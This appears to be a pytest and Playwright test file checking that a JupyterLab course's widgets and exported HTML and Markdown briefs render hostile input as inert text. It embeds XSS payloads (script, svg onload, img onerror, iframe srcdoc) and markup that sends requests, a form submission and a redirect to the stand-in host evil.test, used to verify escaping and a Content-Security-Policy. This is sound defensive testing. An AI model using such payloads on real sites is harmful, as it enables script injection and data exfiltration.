"""Hundreds of hostile strings come in by files and by keyboard; in Chromium they leave as text."""

from __future__ import annotations

import html
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from itertools import cycle, pairwise
from pathlib import Path

import nbformat
import pytest
from bare_page import PAUSE, BarePage, kept, status
from hostile import (
    ARTICLE,
    CONTEXT,
    FILES,
    GROUPS,
    MEGABYTE,
    QUESTIONS,
    STRINGS,
    WRITABLE,
    escaped,
    filled,
    poison,
    reworded,
)
from jupyter_page import close_notebook, open_notebook, reopen_trusted, reopen_untrusted, run_all, write_notebook
from lab_process import LabProcess
from playwright.sync_api import Browser, Page, Route, expect

from course_utils import load_questions, load_reading
from course_utils.answers.workbook import Workbook
from course_utils.article.article import load_article
from course_utils.exercises.brief import PARTS
from course_utils.exercises.brief_export import Brief, as_markdown, as_page
from course_utils.exercises.portfolio import ESTIMATE, Chapter, Given, estimate, estimate_items, gather
from course_utils.exercises.sorting_tasks import sentences_by_kind, ties_by_sign
from course_utils.widgets import (
    BriefForm,
    ChanceEstimate,
    Choice,
    MyCourse,
    PredictionControl,
    QuestionControl,
    Sorting,
    TwoVotes,
)
from course_utils.widgets.chance import MOST

pytestmark = pytest.mark.browser

NOTEBOOK = "hostile.ipynb"
#: What JupyterLab, IPython and matplotlib keep in a home folder.
OTHERS = (".cache", ".config", ".local", ".matplotlib", "data", "ipython", "jupyter", "runtime")
#: Milliseconds for a reply that has a chart to paint.
PATIENCE = 30_000
TESTS = Path(__file__).parents[1]
#: What a file takes; the rest reaches records past their checks.
FIT = [s for name, group in GROUPS.items() if name not in ("terminal", "controls", "halves") for s in group]
#: In Markdown the sign for what cannot be shown stands in the place of its control character.
MASKED = ["\x01javascript:window.struck=1"]
#: Tags that an article takes, since they have no white space in them.
TAGS = ("<svg/onload=window.struck=1>", "<img/src=x/onerror=window.struck=1//")
CELLS = (
    f"""import sys
sys.path.append({str(TESTS)!r})
from dataclasses import replace
from itertools import cycle
from hostile import STRINGS, WRITABLE, poison, reworded
from course_utils import charts, lesson, load_article, load_context, load_questions, load_reading
from course_utils import cards as decks
from course_utils.exercises.sorting_tasks import sentences_by_kind, ties_by_sign
from course_utils.outside.atlas import load_atlas
from course_utils.widgets import *
stock = cycle(WRITABLE)
reading = poison(reworded(load_reading(), stock), stock)
context = poison(load_context(), stock)
article = reading.article
disputed = poison(reworded(load_article(), stock), stock)  # before sentences, and in no quote
small, questions = load_reading("small.reading.yaml"), load_questions("questions.yaml")
outside = load_context("context.yaml")
book = lesson.workbook()
lesson.open_course()""",
    "VoiceXray(reading, 'armenia')",
    "VoiceXray(small, 'azerbaijan')",
    *(
        f"ChartExplorer({name!r}, lambda _: charts.{call})"
        for name, call in {
            "strip": "naming_strip(reading, 'armenia')",
            "shares": "words_by_voice(article)",
            "naming": "naming_matrix(reading, context=context)",
            "map": "article_map(reading, context, load_atlas())",
            "network": "network(reading)",
            "rule": "rule_of_thumb(reading)",
            "timeline": "timeline(small, outside, after_page=True)",
            "suppliers": "supplier_shares(outside, article, outside.series[0].importer, of=article.title, "
            "counted_by=article.title, after_page=True)",
            "ladder": "certainty_ladder(reading)",
            "chain": "source_chain(small, 'c2')",
            "interests": "interest_matrix(reading)",
        }.items()
    ),
    *(
        f"CardExplorer({name!r}, {text}, 'Card', decks.{call})"
        for name, text, call in (
            ("actors", "article", "actor_cards(reading)"),
            ("perspectives", "article", "perspective_cards(reading, context)"),
            ("contested", "disputed", "contested_cards(disputed, context)"),
            ("sources", "disputed", "source_cards(context, disputed, after_page=True)"),
        )
    ),
    "Sorting(sentences_by_kind(reading), book, article)",
    "Sorting(ties_by_sign(reading), book, article)",
    "all_asked = [poison(q, stock) for q in lesson._bank().values()]\n"
    "QuestionControl(questions[0], book, small.article, questions[0].prompt)",
    "QuestionControl(replace(all_asked[1], id='mine'), book, article)",
    "PredictionControl(questions[1], book, small.article, charts.words_by_voice(article))",
    "TwoVotes(replace(questions[0], id='votes'), book, small.article)",
    "came = outside.facts[0].sentence\n"
    "ChanceEstimate('03-estimate', questions[0].prompt, book, charts.words_by_voice(article), came)",
    "Choice('size', questions[0].prompt, {'a': questions[0].prompt, 'b': questions[1].prompt}, book)",
    "lesson._bank = lambda: {q.id: q for q in (*questions, *all_asked)}\nlesson.my_course()",
    "lesson.article = lambda: article\nlesson.write_brief()",
)
LIVES = len(CELLS) - 1
#: What the notebook's other controls find on the disk: a string that is none of the answers they offer.
REAL = dict(zip((
    "q-sure", "mine", "votes", "votes.alone", "size", *estimate_items(ESTIMATE), "brief.confidence",
    "brief.exported", *(question.id for question in load_questions()),
    *(f"{task.name}.{entry.id}" for sort in (sentences_by_kind, ties_by_sign)
      for task in [sort(load_reading())] for entry in task.entries),
), (f"{string} kept" for string in cycle(WRITABLE)), strict=False))  # fmt: skip
#: What must not be in a page: elements, attributes and addresses that only a string could have brought.
BROUGHT = """where => { const roots = where.nodeType ? [where] : [...document.querySelectorAll(where)];
  const bad = 'script:not(.jupyter-widgets > script), iframe, object, embed, form, base, link, meta, '
    + 'video, audio, svg, math, template, marquee, portal, dialog, plaintext, source, picture, x, i, b, '
    + 'mark:not(.rtc-text mark), mjx-container, img:not([src^="data:image/png;base64,"]), a, [href], '
    + '[srcdoc], [srcset], [ping], [background], [action], pre code, '
    + ':is(textarea, input, select):not(.rtc-live *)';
  const all = roots.flatMap(root => [...root.querySelectorAll('*')]);
  const odd = all.filter(e => [...e.attributes].some(a => a.name.startsWith('on') || a.name.includes(':')
    || (a.name === 'style' && /url|expression|import|fixed/i.test(a.value))));
  const styles = all.filter(e => e.tagName === 'STYLE' && /evil|struck/.test(e.textContent));
  return [...roots.flatMap(root => [...root.querySelectorAll(bad)]), ...odd, ...styles]
    .map(e => e.outerHTML.slice(0, 200)); }"""
OUTPUTS = ".jp-OutputArea-output"
#: Shows every card and chart, follows some marks of each to what they rest on, and looks at what that brings.
LEAF_THROUGH = f"""async () => {{ const brought = {BROUGHT}, found = new Set();
  const few = list => [...list].slice(0, 3);
  const press = (node, key) => node.dispatchEvent(new KeyboardEvent('keydown', {{key, bubbles: true}}));
  const change = (list, value) => {{ list.value = value; list.dispatchEvent(new Event('change')); }};
  for (const one of document.querySelectorAll('.rtc-explorer')) {{
    const look = () => brought(one).forEach(markup => found.add(markup));
    const follow = () => {{
      for (const list of one.querySelectorAll('.rtc-marks select')) for (const mark of few(list.options)) {{
        change(list, mark.value); press(list, 'Enter'); look(); }}
      for (const cite of few(one.querySelectorAll('.rtc-stage [data-mark]'))) cite.click();
      look(); }};
    follow();
    for (const id of few(one.querySelectorAll('.rtc-id'))) {{ id.click(); look(); }}
    for (const list of one.querySelectorAll('[aria-label="What is shown"] select'))
      for (const card of list.options) {{ change(list, card.value); follow(); }}
    await new Promise(done => setTimeout(done)); }}
  return [...found]; }}"""
#: Asks nbconvert's own template for these hosts: RequireJS and MathJax, wherever the page is opened.
NBCONVERTS_HOSTS = {"cdnjs.cloudflare.com"}


@pytest.fixture
def hostile_lab(lab: LabProcess) -> LabProcess:
    """Put the small course, full of strings, and answers that are too, into the student's folder."""
    stock, tags = cycle(FIT), cycle(TAGS)
    for name, template in FILES.items():
        text = filled(template, "", lambda _: escaped(next(stock)))
        (lab.folder / name).write_bytes(text.encode())
    # In a question bank feedback differs and a question has an id; in a reading two codings do.
    (lab.folder / "small.txt").write_bytes(filled(ARTICLE, "", lambda _: next(tags)).encode())
    (lab.folder / "questions.yaml").write_bytes(filled(QUESTIONS, FIT[14], escaped).encode())
    (lab.folder / "context.yaml").write_bytes(filled(CONTEXT, FIT[46], escaped).encode())
    said = {"first": FIT[0], "tries": 1, "saved": "2026-01-02T03:04"}
    brief = {f"brief.{part.id}": {**said, "value": text} for part, text in zip(PARTS, spread(WRITABLE), strict=True)}
    real = {item: {**said, "value": string, "first": string} for item, string in REAL.items()}
    answers = {s: {**said, "value": s} for s in STRINGS} | brief | real
    (lab.folder / "answers.json").write_text(json.dumps({"schema": 1, "answers": answers}))
    return lab


def spread(strings: list[str]) -> list[str]:
    """Return all strings in one text a part, each a paragraph that cites a sentence."""
    return ["\n\n".join(f"{s} s01" for s in strings[n :: len(PARTS)]) for n in range(len(PARTS))]


def places(lab: LabProcess) -> set[str]:
    """Return every file beside the student's folder and in the home folder, but what others keep there."""
    where = lab.folder.parent
    found = {path.relative_to(where) for path in where.rglob("*") if lab.folder not in (path, *path.parents)}
    home = lab.home.relative_to(where)
    others = [home / name for name in OTHERS]
    return {str(path) for path in found if not {path, *path.parents} & set(others)}


def test_they_are_text_in_every_control_twin_and_export_and_when_opened_again(
    page: Page, hostile_lab: LabProcess, chromium: Browser
) -> None:
    lab = hostile_lab
    before = places(lab)
    write_notebook(lab, NOTEBOOK, *CELLS)
    open_notebook(page, NOTEBOOK)
    assert run_all(page, 180) == []
    lives = page.locator(".rtc-live")
    expect(lives).to_have_count(LIVES)
    nothing_is_answered(page)
    use_every_control(page)
    assert unseen(page.evaluate("() => document.body.textContent")) == []
    assert page.evaluate(BROUGHT, OUTPUTS) == []
    assert page.evaluate("'struck' in window") is False
    files = {path.name for path in lab.folder.iterdir()}
    assert {"brief.html", "brief.md", "answers.json"} <= files
    assert not {name for name in files if "struck" in name}
    assert places(lab) == before
    reopen_trusted(page, NOTEBOOK)
    assert_nothing_ran(page, OUTPUTS)
    copy = reopen_untrusted(page, lab, NOTEBOOK)
    assert_nothing_ran(page, OUTPUTS)
    close_notebook(page)
    the_converted_notebook_is_text(chromium, lab, copy)
    assert places(lab) == before


def test_an_exported_brief_is_text_in_jupyterlabs_own_viewer_and_as_a_page(
    page: Page, lab: LabProcess, chromium: Browser
) -> None:
    """Hand in every string, in each part of the brief, in its answers, in the article's lines and words."""
    stock = cycle(STRINGS)
    four = (" ".join(next(stock) for _ in range(4)) for _ in STRINGS)  # so that all stand in what is cited
    article = poison(reworded(load_reading(), four).article, stock)
    texts = {part.id: text for part, text in zip(PARTS, spread(STRINGS), strict=True)}
    texts[PARTS[0].id] += "\n\n" + " ".join(sentence.id for sentence in article.sentences)
    given = tuple(Given(*(next(stock) for _ in range(4))) for _ in STRINGS)
    brief = Brief(article, texts, (Chapter("# [x](y)", given, "", beside="*b*"),))
    for ending, made in ((".md", as_markdown(brief)), (".html", as_page(brief))):
        (lab.folder / f"brief{ending}").write_bytes(made.encode("utf-8", "replace"))
    the_markdown_is_text(page, lab)
    the_page_is_text(chromium, lab)


def nothing_is_answered(page: Page) -> None:
    """Look at the controls whose answer on the disk is a string, and so none that they offer."""
    asked = page.locator(".rtc-live:has(button:text-is('Check'))")  # the one that is folded, too
    assert asked.count() == 2
    for where in (asked, page.locator(".rtc-sorting")):
        expect(where.locator("input[type=radio]")).not_to_have_count(0)
        expect(where.locator("input:checked")).to_have_count(0)
    for word in ("Vote", "Commit my estimate"):
        expect(page.get_by_role("button", name=word, exact=True)).to_be_visible()
    form = page.locator(".rtc-brief")
    expect(form.locator("select").first).to_have_value("")
    for area, text in zip(form.locator("textarea").all(), spread(WRITABLE), strict=True):
        assert "".join(area.input_value().split()) == "".join(text.split())


def use_every_control(page: Page) -> None:
    """Open lists, marks, cards and results, and answer, without waiting for what nobody reads."""
    assert page.evaluate(LEAF_THROUGH) == []
    for task in page.locator(".rtc-sorting").all():
        for group in task.locator("fieldset").all()[:3]:
            group.locator("input").first.check()
        task.get_by_role("button", name="Compare with the reading").press("Enter")
        compared = task.get_by_role("region", name="Comparison with the reading")
        expect(compared).to_be_visible(timeout=PATIENCE)
    for live in page.locator(".rtc-live").all():
        for word in ("Check", "Commit my prediction", "Vote", "We have talked", "Vote again"):
            button = live.get_by_role("button", name=word, exact=True)
            if not button.count():
                continue
            if word != "We have talked":
                live.locator("fieldset:visible input").first.check()
            button.press("Enter")
            after = {"Vote": "We have talked", "We have talked": "Vote again"}.get(word)
            if after:
                expect(live.get_by_role("button", name=after)).to_be_visible(timeout=PATIENCE)
            else:
                expect(live.get_by_role("status")).to_contain_text("Saved", timeout=PATIENCE)
    guess = page.locator(".rtc-live").filter(has=page.get_by_role("button", name="Commit my estimate"))
    guess.locator("select").first.select_option("35")
    for area in guess.locator("textarea").all():
        area.fill(" ".join(GROUPS["markdown"])[:MOST])
    guess.get_by_role("button", name="Commit my estimate").press("Enter")
    expect(page.get_by_text("Your estimate: 35 %.")).to_be_visible(timeout=PATIENCE)
    mine = page.locator(".rtc-portfolio")
    mine.get_by_role("button", name="Gather again").press("Enter")
    said = "Gathered again, from what is saved."
    expect(mine.get_by_role("status")).to_have_text(said, timeout=PATIENCE)
    for item in estimate_items(ESTIMATE):
        expect(mine).to_contain_text(REAL[item])
    form = page.locator(".rtc-brief")
    for area, text in zip(form.locator("textarea").all(), spread(WRITABLE), strict=True):
        area.fill(f"{text} typed")
    form.get_by_role("button", name="Check the form").press("Enter")
    checked = form.get_by_role("region", name="The form, as last checked")
    expect(checked).to_be_visible(timeout=PATIENCE)
    form.get_by_role("button", name="Export my brief").press("Enter")
    said = "Exported as brief.md and brief.html"
    expect(form.get_by_role("status")).to_contain_text(said, timeout=PATIENCE)
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")


def the_markdown_is_text(page: Page, lab: LabProcess) -> None:
    """Open the exported Markdown in JupyterLab's own viewer."""
    page.goto("/lab/tree/brief.md?reset", wait_until="commit")
    page.wait_for_function("window.jupyterapp?.shell.currentWidget?.context?.isReady", timeout=60_000)
    page.evaluate("jupyterapp.commands.execute('docmanager:open', {path: 'brief.md', factory: 'Markdown Preview'})")
    viewer = page.locator(".jp-MarkdownViewer .jp-RenderedMarkdown")
    expect(viewer.get_by_role("heading", name="The situation")).to_be_visible(timeout=30_000)
    page.wait_for_timeout(500)  # for formulas, which are set after the text
    assert_nothing_ran(page, ".jp-MarkdownViewer .jp-RenderedMarkdown :is(p, li, blockquote)")
    usual = "a, blockquote, br, code, h1, h2, li, p, ul, .numbering-entry"
    odd = "(e, usual) => [...e.querySelectorAll(`:not(:is(${usual}))`)].map(x => x.outerHTML.slice(0, 200))"
    assert viewer.evaluate(odd, usual) == []
    assert unseen(viewer.inner_text()) == MASKED


def the_page_is_text(chromium: Browser, lab: LabProcess) -> None:
    """Open the exported page as a teacher does, from the disk."""
    struck, asked, found, text = visited(chromium, (lab.folder / "brief.html").as_uri())
    assert (struck, asked) == (False, [(lab.folder / "brief.html").as_uri()])
    assert found == []
    assert unseen(text) == []


def unseen(text: str) -> list[str]:
    """Return the strings that are not in a text, however its lines are broken."""
    flat = "".join(text.split())
    return [string for string in FIT if "".join(string.split()) not in flat]


def the_converted_notebook_is_text(chromium: Browser, lab: LabProcess, name: str) -> None:
    """Convert a notebook with nbconvert, and open the page from a server of this machine."""
    from nbconvert import HTMLExporter

    notebook = nbformat.read(lab.folder / name, as_version=4)
    converted, _ = HTMLExporter().from_notebook_node(notebook)
    (lab.folder / "hostile.html").write_text(converted, encoding="utf-8")
    with served(lab.folder) as address:
        struck, asked, found, _ = visited(chromium, f"{address}/hostile.html", ".jp-OutputArea-output")
    assert struck is False
    outside = [url for url in asked if not url.startswith((address, "data:", "blob:"))]
    assert {url.split("/")[2] for url in outside} <= NBCONVERTS_HOSTS
    assert found == []


@contextmanager
def served(folder: Path) -> Iterator[str]:
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def visited(chromium: Browser, address: str, where: str = "body") -> tuple[bool, list[str], list[str], str]:
    """Return whether a page struck, what it asked (nothing outside answers), what was brought, its text."""
    asked: list[str] = []
    context = chromium.new_context()

    def guard(route: Route) -> None:  # what a policy stops does not come this far
        asked.append(route.request.url)
        if route.request.url.startswith(("file:", "http://127.0.0.1:", "data:", "blob:")):
            route.continue_()
        else:
            route.abort()

    try:
        context.route("**/*", guard)
        paper = context.new_page()
        paper.goto(address)
        paper.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        paper.mouse.move(300, 300)
        paper.wait_for_timeout(300)
        struck: bool = paper.evaluate("'struck' in window")
        found: list[str] = paper.evaluate(BROUGHT, where)
        return struck, asked, found, paper.inner_text("body")
    finally:
        context.close()


def assert_nothing_ran(page: Page, where: str) -> None:
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
    assert page.evaluate("'struck' in window") is False
    assert page.evaluate(BROUGHT, where) == []


def test_the_policy_of_an_exported_page_stops_what_slips_through(chromium: Browser, tmp_path: Path) -> None:
    """Take the escape of one field away: without the policy it strikes and asks, with it neither."""
    evil = (
        "<script>window.struck=1</script><img src=http://evil.test/x.png onerror=window.struck=1>"
        "<style>@import 'http://evil.test/x.css';body{opacity:.5}</style>"
        "<base href=http://evil.test/><iframe src=http://evil.test/x></iframe>"
        "<form action=http://evil.test/sent id=f></form><b style='color:red' onclick=window.struck=1>x</b>"
        "<object data=http://evil.test/object></object><embed src=http://evil.test/embed>"
        "<iframe srcdoc='<script>parent.window.struck=1</script>'></iframe>"
        "<video src=http://evil.test/x autoplay></video><link rel=stylesheet href=http://evil.test/y.css>"
    )
    page = as_page(Brief(load_article(), {"situation": evil}, ()))
    slipped = page.replace(html.escape(evil), evil)
    policy = page[page.index('<meta http-equiv="Content-Security-Policy"') : page.index('<meta name="viewport"')]
    for name, text in {"with": slipped, "without": slipped.replace(policy, "")}.items():
        (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
    assert evil in slipped
    with_it = visited(chromium, (tmp_path / "with.html").as_uri())
    assert with_it[:2] == (False, [(tmp_path / "with.html").as_uri()])
    without = visited(chromium, (tmp_path / "without.html").as_uri())
    assert without[0] is True
    asked = {f"http://evil.test/{name}" for name in ("x.png", "x.css", "x", "y.css", "object", "embed")}
    assert asked - set(without[1]) == set()
    for name, reached in (("with", []), ("without", ["http://evil.test/sent?"])):
        with opened(chromium, tmp_path / f"{name}.html") as (paper, outside):
            based: bool = paper.evaluate("document.baseURI.startsWith('http://evil.test/')")
            outside.clear()
            paper.evaluate("document.forms[0].submit()")
            wait_for(paper, outside, reached)
            assert (outside, based) == (reached, name == "without")


def test_no_policy_in_a_page_stops_it_from_leaving_which_is_why_all_is_escaped(
    chromium: Browser, tmp_path: Path
) -> None:
    """It is a limit of the policy, and stands in its comment."""
    evil = "<meta http-equiv=refresh content='0;url=http://evil.test/left'>"
    page = as_page(Brief(load_article(), {"situation": evil}, ()))
    for name, text, reached in (
        ("slipped", page.replace(html.escape(evil), evil), ["http://evil.test/left"]),
        ("escaped", page, []),
    ):
        (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
        with opened(chromium, tmp_path / f"{name}.html") as (paper, outside):
            wait_for(paper, outside, reached)
            assert outside == reached


def wait_for(paper: Page, outside: list[str], reached: list[str]) -> None:
    """Wait for what must be asked for as long as it takes, and a little for what must not."""
    for _ in range(200 if reached else 6):
        if reached and outside == reached:
            return
        paper.wait_for_timeout(50)


@contextmanager
def opened(chromium: Browser, file: Path) -> Iterator[tuple[Page, list[str]]]:
    """Open a page from the disk; what it asks of evil.test is noted, and nobody answers."""
    paper, asked = chromium.new_page(), list[str]()

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    try:
        paper.route("http://evil.test/**", note)
        paper.goto(file.as_uri())
        yield paper, asked
    finally:
        paper.close()


def test_a_megabyte_is_text_in_an_exported_page_and_in_controls_that_hold_it(
    chromium: Browser, bare: BarePage, book: Workbook, tmp_path: Path
) -> None:
    (tmp_path / "brief.html").write_text(as_page(Brief(load_article(), {"situation": MEGABYTE}, ())), "utf-8")
    struck, asked, found, text = visited(chromium, (tmp_path / "brief.html").as_uri())
    assert (struck, len(asked), found) == (False, 1, [])
    assert MEGABYTE in text
    chance, *ways = estimate_items(ESTIMATE)
    book.commit_all({"brief.situation": MEGABYTE, chance: "35", **dict.fromkeys(ways, MEGABYTE)})
    form = bare.show("brief", BriefForm(book, load_article()))
    assert form.locator("textarea").first.input_value() == MEGABYTE
    mine = bare.show("mine", MyCourse(lambda: (estimate(book.answers()),)))
    guess = bare.show("guess", ChanceEstimate(ESTIMATE, "How likely?", book))
    for view in (mine, guess):
        assert (view.text_content() or "").count(MEGABYTE) == 2
    form.locator("textarea").nth(1).press_sequentially("more")
    bare.later(PAUSE)
    expect(status(form)).to_contain_text("Saved ")
    assert (kept(book)["brief.situation"], kept(book)["brief.known"]) == (MEGABYTE, "more")
    assert bare.page.evaluate(BROUGHT, "[data-name]") == []


NAMES = ("__proto__", "constructor", "hasOwnProperty", "toString", "valueOf")


def test_names_that_every_object_of_a_script_has_are_names_like_others(bare: BarePage, book: Workbook) -> None:
    """They are options' ids, names of items, values of answers, and what is typed."""
    bank = load_questions()
    check = next(question for question in bank if question.key == question.options[0].id)
    options = tuple(replace(o, id=name) for o, name in zip(check.options, NAMES, strict=False))
    check = replace(check, options=options, key=NAMES[0])
    task = ties_by_sign(load_reading())
    ids = [f"{one}.{other}" for one, other in pairwise(NAMES)]
    entries = tuple(replace(entry, id=name) for entry, name in zip(task.entries, ids, strict=False))
    task = replace(task, name="__proto__", entries=entries)
    rows = [f"{task.name}.{entry.id}" for entry in task.entries]
    chance, *ways = estimate_items(ESTIMATE)
    for item, value in zip((*NAMES, *rows, *ways, chance), cycle(NAMES), strict=False):
        book.commit(item, value)
    for part, value in zip(PARTS, cycle(NAMES), strict=False):
        book.commit(f"brief.{part.id}", value)
    asked = bare.show("asked", QuestionControl(replace(check, id=NAMES[0]), book, load_article()))
    expect(asked.get_by_role("radio").first).to_be_checked()
    asked.get_by_role("radio").nth(1).press("Space")
    asked.get_by_role("button").press("Enter")
    expect(status(asked)).to_contain_text("Not yet. ")
    votes = bare.show("votes", TwoVotes(replace(check, id="new"), book, load_article()))
    for word in ("Vote", "We have talked", "Vote again"):
        if word != "We have talked":
            votes.locator("fieldset:visible input").first.press("Space")
        votes.get_by_role("button", name=word, exact=True).press("Enter")
    expect(status(votes)).to_contain_text("Your two votes are the same.")
    sorting = bare.show("sorting", Sorting(task, book, load_article()))
    expect(sorting.locator("input:checked")).to_have_count(0)
    sorting.get_by_role("radio").first.press("1")
    sorting.get_by_role("button", name="Compare with the reading").press("Enter")
    expect(sorting.get_by_role("region")).to_be_visible()
    size = bare.show("size", Choice("toString", "Which?", {name: name for name in NAMES}, book))
    expect(size.get_by_role("combobox")).to_have_value("toString")
    size.get_by_role("combobox").select_option("__proto__")
    expect(status(size)).to_contain_text("__proto__. Saved ")
    guess = bare.show("guess", ChanceEstimate(ESTIMATE, "How likely?", book))
    guess.get_by_role("combobox").select_option("35")
    for area in guess.get_by_role("textbox").all():
        area.fill("__proto__")
    guess.get_by_role("button").press("Enter")
    expect(status(guess)).to_contain_text("Your estimate: 35 %.")
    form = bare.show("form", BriefForm(book, load_article()))
    areas = form.locator("textarea").all()
    assert [area.input_value() for area in areas] == [name for _, name in zip(PARTS, cycle(NAMES), strict=False)]
    areas[0].fill("hasOwnProperty s01")
    bare.later(PAUSE)
    expect(status(form)).to_contain_text("Saved ")
    on_disk = kept(book)
    assert (on_disk["__proto__"], on_disk["toString"], on_disk["new"]) == ("constructor", "__proto__", "__proto__")
    assert (on_disk[rows[0]], on_disk[ways[0]]) == (task.categories[0].id, "__proto__")
    assert on_disk["brief.situation"] == "hasOwnProperty s01"


def visible_in(text: str) -> str:
    return "".join(text.replace("\0", "").split())


@pytest.mark.parametrize("part", range(4))
def test_answers_on_the_disk_are_text_in_controls_that_are_opened_again_or_left_out(
    bare: BarePage, book: Workbook, part: int
) -> None:
    """What was typed is shown, with every string in it; where there is a choice, none is marked."""
    strings, bank, reading = WRITABLE[part::4], load_questions(), load_reading()
    joined, stock = "\n\n".join(strings), cycle(strings)
    chance, *ways = estimate_items(ESTIMATE)
    sentences, ties = sentences_by_kind(reading), ties_by_sign(reading)
    rows = [f"{task.name}.{entry.id}" for task in (sentences, ties) for entry in task.entries]
    values = {name: next(stock) for name in ("size", *(f"{q.id}{end}" for q in bank for end in ("", ".alone")), *rows)}
    book.commit_all({**values, chance: "35", **dict.fromkeys(ways, joined), "brief.known": joined})
    for name, control in {
        "check": QuestionControl(bank[0], book, load_article()),
        "prediction": PredictionControl(next(q for q in bank if q.kind == "prediction"), book, load_article()),
        "votes": TwoVotes(next(q for q in bank if q.key), book, load_article()),
        "sentences": Sorting(sentences, book, load_article()),
        "ties": Sorting(ties, book, load_article()),
    }.items():
        view = bare.show(name, control)
        assert view.locator("input[type=radio]").count() > 2
        assert view.locator("input:checked").count() == 0
    size = bare.show("size", Choice("size", "How large?", {"page": "a page", "wall": "a wall"}, book))
    assert size.get_by_role("combobox").input_value() == "page"
    guess = bare.show("guess", ChanceEstimate(ESTIMATE, "How likely?", book))
    chapters = lambda: gather(bank, sentences, ties, book.answers())  # noqa: E731
    mine = bare.show("mine", MyCourse(chapters))
    form = bare.show("form", BriefForm(book, load_article()))
    shown = [guess.text_content(), mine.text_content(), form.locator("textarea").nth(1).input_value()]
    for text in shown:  # HTML knows no zero
        assert visible_in(joined) in visible_in(text or "")
    bare.page.wait_for_timeout(100)  # for what a picture or a frame would run
    assert bare.page.evaluate("'struck' in window") is False
    assert bare.page.evaluate(BROUGHT, "[data-name]") == []
